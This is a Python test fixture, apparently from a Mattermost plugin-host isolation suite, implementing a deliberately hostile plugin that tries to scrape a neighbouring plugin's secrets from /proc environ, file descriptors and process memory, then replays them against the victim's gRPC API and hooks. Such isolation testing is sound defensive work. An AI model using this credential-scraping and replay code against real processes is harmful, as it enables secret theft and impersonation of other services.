"""A hostile plugin, written without the SDK: it tries to steal a neighbour plugin's
credentials and use them. Tests/PluginHostTests/IsolationTests.swift starts it next to a
running victim and tells it (through SPY_* variables) the victim's pid, API target and hooks
socket, and, to prove the API checks the caller and not only the secret, the victim's real
API secret. Every attempt's outcome goes to stderr as one "spy NAME=OUTCOME" line.
"""

import errno
import os
import re
import sys

import grpc

SECRET = re.compile(rb"[0-9a-f]{64}")


def say(name, outcome):
    sys.stderr.write("[INFO] spy %s=%s\n" % (name, outcome))
    sys.stderr.flush()


def denial(error):
    return "denied:" + errno.errorcode.get(error.errno, str(error.errno))


# Like any plugin: take our own credentials from descriptor 3 (we only need to empty it).
while os.read(3, 4096):
    pass
os.close(3)
sys.stdout.write("1|2|unix|%s|grpc\n" % os.environ["MATTERMOST_PLUGIN_HOOKS_SOCKET"])
sys.stdout.flush()

victim = os.environ["SPY_VICTIM_PID"]
found = set()

# 1. The victim's environment, its credentials descriptor, its memory.
try:
    with open("/proc/%s/environ" % victim, "rb") as environ:
        data = environ.read()
    found.update(SECRET.findall(data))
    say("environ", "read:%d bytes" % len(data))
except OSError as error:
    say("environ", denial(error))
try:
    fd = os.open("/proc/%s/fd/3" % victim, os.O_RDONLY)
    data = os.read(fd, 4096)
    os.close(fd)
    found.update(SECRET.findall(data))
    say("fd3", "read:%d bytes" % len(data))
except OSError as error:
    say("fd3", denial(error))
try:
    with open("/proc/%s/maps" % victim) as maps:
        regions = [line.split()[0].split("-") for line in maps if " rw" in line]
    read = 0
    with open("/proc/%s/mem" % victim, "rb", buffering=0) as memory:
        for start, end in regions[:64]:
            memory.seek(int(start, 16))
            chunk = memory.read(min(int(end, 16) - int(start, 16), 1 << 20))
            read += len(chunk)
            found.update(SECRET.findall(chunk))
    say("mem", "read:%d bytes" % read)
except OSError as error:
    say("mem", denial(error))
say("secrets-found", ",".join(sorted(secret.decode() for secret in found)) or "none")


def call(target, method, key, secret):
    """A raw unary call (empty request bytes, no generated stubs): the status code name and details."""
    metadata = [(key, secret)] if secret is not None else []
    with grpc.insecure_channel(target) as channel:
        try:
            channel.unary_unary(method)(b"", timeout=5, metadata=metadata)
            return "OK"
        except grpc.RpcError as error:
            return "%s:%s" % (error.code().name, error.details())


# 2. The victim's API with whatever was found, with its real secret, and with none.
api = os.environ["SPY_VICTIM_API_TARGET"]
kv_get = "/mattermost.pluginapi.v1.PluginAPI/KVGet"
for index, secret in enumerate(sorted(found)):
    say("api-found-%d" % index, call(api, kv_get, "mattermost-plugin-secret", secret.decode()))
say("api-stolen-secret", call(api, kv_get, "mattermost-plugin-secret", os.environ["SPY_STOLEN_API_SECRET"]))
say("api-no-secret", call(api, kv_get, "mattermost-plugin-secret", None))

# 3. The victim's hooks without a credential, and with a made-up one.
hooks = "unix:" + os.environ["SPY_VICTIM_HOOKS_SOCKET"]
shutdown = "/mattermost.pluginapi.v1.PluginHooks/Shutdown"
say("hooks-no-secret", call(hooks, shutdown, "mattermost-hooks-secret", None))
say("hooks-wrong-secret", call(hooks, shutdown, "mattermost-hooks-secret", "0" * 64))
say("hooks-health-no-secret", call(hooks, "/grpc.health.v1.Health/Check", "mattermost-hooks-secret", None))
say("done", "yes")
sys.stdin.read()
